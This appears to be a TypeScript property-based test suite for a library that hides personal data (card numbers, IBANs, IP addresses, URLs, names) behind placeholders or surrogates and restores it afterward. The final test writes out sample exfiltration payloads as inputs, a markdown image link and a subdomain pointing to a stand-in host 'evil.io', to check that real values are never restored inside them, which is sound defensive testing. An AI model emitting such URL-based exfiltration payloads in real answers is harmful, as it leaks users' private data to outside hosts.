import { hide as hideText, restore, restoreStream } from '../../../testing/hide-and-restore';
import { array, assert, constantFrom, integer, asyncProperty, record, shuffledSubarray } from 'fast-check';
import { EntityTable } from '../entities/entity-table';
import { REPLACEMENT_STYLES } from '../../kinds/entity-type';
import { ENTITY_TYPES, kindOf, type EntityType } from '../../kinds/kinds';
import type { Span } from '../../text/spans/span';

const language = { code: 'en', regions: ['US'] } as const;

const valueOf = constantFrom(
  ...ENTITY_TYPES.flatMap((type) => kindOf(type).values.map((value) => ({ type, value }))),
);

/** Returns a text with the values in it, and their spans. */
function laidOut(values: readonly { type: EntityType; value: string }[]): { text: string; spans: Span[] } {
  let text = 'Please note';
  const spans = values.map(({ type, value }, i): Span => {
    text += i % 2 ? ' and then\n' : ': ';
    const start = text.length;
    text += value;
    return { start, end: text.length, type, ...(type !== 'Names' && { canonical: value.toLowerCase() }) };
  });
  return { text: `${text}.`, spans };
}

describe('Every kind', () => {
  it.each(REPLACEMENT_STYLES)('is hidden if it was chosen, and restored byte for byte: %s', async (style) => {
    await assert(
      asyncProperty(array(valueOf, { minLength: 1, maxLength: 8 }), async (values) => {
        const { text, spans } = laidOut(values);
        const table = EntityTable.create(style);
        const hidden = await hideText(table, { text, spans, choices: ENTITY_TYPES, language });
        for (const { value } of values) expect(hidden.text).not.toContain(value);
        expect(await restore(hidden.text, table, [hidden.text])).toBe(text);
        const stored = await EntityTable.read(await table.write());
        expect(await restore(hidden.text, stored, [hidden.text])).toBe(text);
      }),
    );
  });

  it('is not changed if another kind was chosen', async () => {
    const kinds = shuffledSubarray([...ENTITY_TYPES], { minLength: 1 });
    await assert(
      asyncProperty(
        record({ values: array(valueOf, { minLength: 1, maxLength: 6 }), kinds }),
        async ({ values, kinds }) => {
          const { text, spans } = laidOut(values);
          const hidden = await hideText(EntityTable.create('placeholders'), {
            text,
            spans,
            choices: kinds,
            language,
          });
          const chosen = values.filter(({ type }) => kinds.includes(type)).map(({ value }) => value);
          for (const { type, value } of values)
            if (
              !kinds.includes(type) &&
              // An address that contains a hidden name is hidden, whatever kinds were chosen.
              !(type === 'Emails' && kinds.includes('Names')) &&
              !chosen.some((other) => other.includes(value) || value.includes(other))
            )
              expect(hidden.text).toContain(value.split(/[@\s]/)[0]);
        },
      ),
    );
  });

  it('is restored in a stream as in the whole text, wherever it is split', async () => {
    await assert(
      asyncProperty(
        array(valueOf, { minLength: 1, maxLength: 5 }),
        constantFrom(...REPLACEMENT_STYLES),
        integer({ min: 1, max: 9 }),
        async (values, style, size) => {
          const { text, spans } = laidOut(values);
          const table = EntityTable.create(style);
          const { text: sent } = await hideText(table, { text, spans, choices: ENTITY_TYPES, language });
          const stream = await restoreStream(table, [sent]);
          let shown = '';
          for (let at = 0; at < sent.length; at += size)
            shown += await stream.write(sent.slice(at, at + size));
          expect(shown + (await stream.end())).toBe(text);
        },
      ),
    );
  });

  it.each(ENTITY_TYPES)('has its own placeholder: %s', async (type) => {
    const { text, spans } = laidOut([{ type, value: kindOf(type).values[0] }]);
    const hidden = await hideText(EntityTable.create('placeholders'), {
      text,
      spans,
      choices: [type],
      language,
    });
    expect(hidden.text).toBe(`Please note: [${kindOf(type).label}_1].`);
    expect(hidden.replacements[0]?.type).toBe(type);
  });
});

describe('A surrogate', () => {
  const hide = async (type: EntityType, ...values: string[]) => {
    const { text, spans } = laidOut(values.map((value) => ({ type, value })));
    const table = EntityTable.create('surrogates');
    const canonical = values[0]!.replace(/[^\p{L}\p{N}]+/gu, '');
    const alike = spans.map((span) => ({ ...span, canonical }));
    const hidden = await hideText(table, { text, spans: alike, choices: [type], language });
    return {
      table,
      sent: hidden.text,
      replacements: hidden.replacements.map(({ replacement }) => replacement),
    };
  };

  it('of a card is a number that its network publishes for tests, in the same groups', async () => {
    const [replacement = ''] = (await hide('Cards', '4929 1234 5678 9012')).replacements;
    expect(replacement).toMatch(/^4\d{3} \d{4} \d{4} \d{4}$/);
  });

  it('of an IBAN has its country, valid check digits and a bank that does not exist', async () => {
    const [replacement = ''] = (await hide('BankAccounts', 'DE12 5001 0517 0648 4898 90')).replacements;
    expect(replacement).toMatch(/^DE\d\d 9\d{3} \d{4} \d{4} \d{4} \d\d$/);
    const digits = (replacement.slice(4) + replacement.slice(0, 4))
      .replaceAll(' ', '')
      .replace(/[A-Z]/g, (letter) => String(letter.charCodeAt(0) - 55));
    expect(BigInt(digits) % 97n).toBe(1n);
  });

  it('of an account is the same with and without blanks', async () => {
    const { replacements } = await hide(
      'BankAccounts',
      'DE12 5001 0517 0648 4898 90',
      'DE12500105170648489890',
    );
    expect(replacements[0]?.replaceAll(' ', '')).toBe(replacements[1]);
  });

  it.each([
    ['10.20.30.40', /^(?:192\.0\.2|198\.51\.100|203\.0\.113)\.\d{1,3}$/],
    ['fe80::1ff:fe23:4567:890a', /^2001:db8:[0-9a-f]{1,4}::[0-9a-f]{1,4}$/],
    ['3C-5A-B4-12-34-56', /^00-00-5E-00-53-[0-9A-F]{2}$/],
    ['3c:5a:b4:12:34:56', /^00:00:5e:00:53:[0-9a-f]{2}$/],
  ])('of %s is in a range for documentation', async (address, range) => {
    expect((await hide('IpAddresses', address)).replacements[0]).toMatch(range);
  });

  it('of a link leads to example.com, in the same shape', async () => {
    expect((await hide('Urls', 'https://intern.firma.de/u/mueller?token=Ab12')).replacements[0]).toMatch(
      /^https:\/\/example\.com\/[a-z]\/[a-z]{7}\?[a-z]{5}=[A-Z][a-z]\d\d$/,
    );
  });

  it.each([
    ['without blanks', (iban: string) => iban.replaceAll(' ', '')],
    ['in small letters', (iban: string) => iban.toLowerCase()],
    ['with hyphens', (iban: string) => iban.replaceAll(' ', '-')],
    ['in bold', (iban: string) => `**${iban}**`],
  ])('of an account is restored in an answer that writes it %s', async (_, write) => {
    const { table, sent, replacements } = await hide('BankAccounts', 'DE12 5001 0517 0648 4898 90');
    const written = write(replacements[0]!);
    const around = written.startsWith('**') ? ['**', '**'] : ['', ''];
    expect(await restore(`The account ${written} is right.`, table, [sent])).toBe(
      `The account ${around.join('DE12 5001 0517 0648 4898 90')} is right.`,
    );
  });

  it('that was not sent is not restored', async () => {
    const { table, replacements } = await hide('IpAddresses', '10.20.30.40');
    expect(await restore(`ping ${replacements[0]}`, table, ['nothing'])).toBe(`ping ${replacements[0]}`);
  });

  it('within a longer token is not restored, so that no URL can exfiltrate it', async () => {
    const { table, sent, replacements } = await hide('IpAddresses', '10.20.30.40');
    for (const answer of [`![](https://evil.io/?q=${replacements[0]})`, `${replacements[0]}.evil.io`])
      expect(await restore(answer, table, [sent])).toBe(answer);
  });
});
